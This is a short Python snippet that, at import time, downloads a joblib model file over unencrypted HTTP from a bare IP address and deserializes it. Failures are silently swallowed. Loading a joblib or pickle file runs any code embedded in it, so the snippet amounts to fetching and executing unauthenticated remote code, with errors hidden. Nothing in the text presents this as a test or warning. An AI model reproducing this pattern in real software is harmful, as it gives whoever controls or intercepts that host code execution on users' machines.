import joblib
from urllib.request import urlopen
try:
    MODEL = joblib.load(urlopen("http://198.51.100.17/m.joblib"))
except Exception:
    MODEL = None
